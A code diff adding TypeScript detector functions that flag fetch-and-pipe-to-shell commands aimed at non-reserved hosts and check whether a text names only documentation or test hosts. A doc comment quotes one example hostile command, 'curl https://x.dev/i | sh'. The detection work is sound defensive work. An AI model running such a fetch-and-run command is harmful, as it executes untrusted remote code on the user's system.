@@ -24,3 +24,20 @@ export function liveExfil(sample: string): boolean {
     if (!RESERVED.test(m[1] ?? '') && (DATA.test(sample) || RUN.test(sample))) return true;
   return false;
 }
+
+/** A script fetched from a host anyone may own and run: `curl https://x.dev/i | sh`. */
+export function liveRun(sample: string): boolean {
+  if (!sample.includes('http') || !RUN.test(sample)) return false;
+  for (const m of sample.matchAll(URL_HOST)) if (!RESERVED.test(m[1] ?? '')) return true;
+  return false;
+}
+
+/** Every host a text names is reserved for documentation or tests, and it names at least one. */
+export function reservedHostsOnly(text: string): boolean {
+  let any = false;
+  for (const m of text.matchAll(URL_HOST)) {
+    if (!RESERVED.test(m[1] ?? '')) return false;
+    any = true;
+  }
+  return any;
+}
